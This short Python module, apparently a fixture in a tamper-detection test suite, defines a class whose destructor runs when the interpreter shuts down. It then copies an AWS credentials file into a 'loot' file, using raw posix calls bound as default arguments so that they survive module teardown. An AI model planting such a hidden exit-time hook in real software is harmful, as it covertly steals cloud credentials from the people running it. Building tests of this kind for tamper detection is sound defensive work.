"""A global of a module does the deed when the modules are taken apart."""

import posix

from acme_tamper.stage import AWS, LOOT


class Late:
    def __del__(self, open=posix.open, read=posix.read, write=posix.write, secret=AWS, loot=LOOT):
        write(open(loot, 0o101, 0o600), read(open(secret, 0), 4096))


late = Late()
